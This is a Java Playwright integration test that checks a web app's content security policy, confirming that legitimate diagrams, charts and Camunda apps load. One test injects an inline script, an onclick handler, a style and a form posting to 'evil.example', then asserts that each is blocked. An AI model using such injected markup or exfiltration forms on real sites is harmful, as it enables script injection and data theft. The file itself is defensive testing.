package io.mandate.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.microsoft.playwright.Page;
import io.mandate.testing.Person;
import io.mandate.testing.Walk;
import org.junit.jupiter.api.Test;

/** The content security policy in a real browser: it stops what does not belong to a page, and nothing that does. */
class ContentPolicyIT extends Walk {

    @Test
    void the_diagram_is_drawn_with_its_link_in_its_place() {
        try (Person paula = person()) {
            paula.signIn("paula@contoso.example").ask("Northwind Traders", customer, "mail_reader").letMandateSend();
            Page page = paula.page();
            page.locator("#diagrams svg .djs-element").first().waitFor();

            assertThat(page.locator("#diagrams .present-step").count()).isPositive();
            assertThat(page.locator("#diagrams .bjs-powered-by").first().evaluate("link => getComputedStyle(link).position"))
                    .isEqualTo("absolute");
            page.locator("#diagrams .bjs-powered-by").first().click();
            page.locator(".bjs-powered-by-lightbox").waitFor();
            assertThat(page.locator(".bjs-powered-by-lightbox").evaluate("box => getComputedStyle(box).position")).isEqualTo("fixed");
        }
    }

    @Test
    void rows_are_opened_in_place_and_ends_are_drawn() {
        try (Person paula = person();
                Person nancy = person()) {
            granted(paula, nancy, "mail_reader");
            paula.visit("/customers?q=" + domain);
            paula.page().locator("details summary").first().click();
            paula.page().locator("details .expanded *").first().waitFor();
            paula.visit("/terms");
            paula.page().waitForFunction("() => document.getElementById('ends') && Chart.getChart('ends')");
        }
    }

    @Test
    void a_script_a_style_and_a_form_that_somebody_smuggled_in_do_nothing_and_are_noticed() {
        Person mallory = person();
        mallory.visit("/sign-in");

        mallory.page().evaluate("""
                () => {
                    const main = document.querySelector("main");
                    main.insertAdjacentHTML("beforeend", "<p id=smuggled style='position: fixed' onclick='window.done = true'>x</p>");
                    const script = document.createElement("script");
                    script.textContent = "window.done = true";
                    main.append(script);
                    document.getElementById("smuggled").click();
                    main.insertAdjacentHTML("beforeend", "<form id=out method=post action='https://evil.example/'></form>");
                    document.getElementById("out").submit();
                }
                """);

        assertThat(mallory.page().evaluate("() => window.done")).isNull();
        assertThat(mallory.page().evaluate("() => getComputedStyle(document.getElementById('smuggled')).position")).isEqualTo("static");
        assertThat(mallory.page().url()).endsWith("/sign-in");
        assertThatThrownBy(mallory::close).isInstanceOf(AssertionError.class)
                .hasMessageContainingAll("script-src", "style-src", "form-action");
    }

    @Test
    void the_web_apps_work_under_their_own() {
        try (Person olivia = person()) {
            olivia.signIn("olivia@mandate.example").visit("/camunda/app/cockpit/default/");
            olivia.page().locator("text=Cockpit").first().waitFor();
            olivia.visit("/camunda/app/tasklist/default/");
            olivia.page().locator("text=Tasklist").first().waitFor();
        }
    }
}
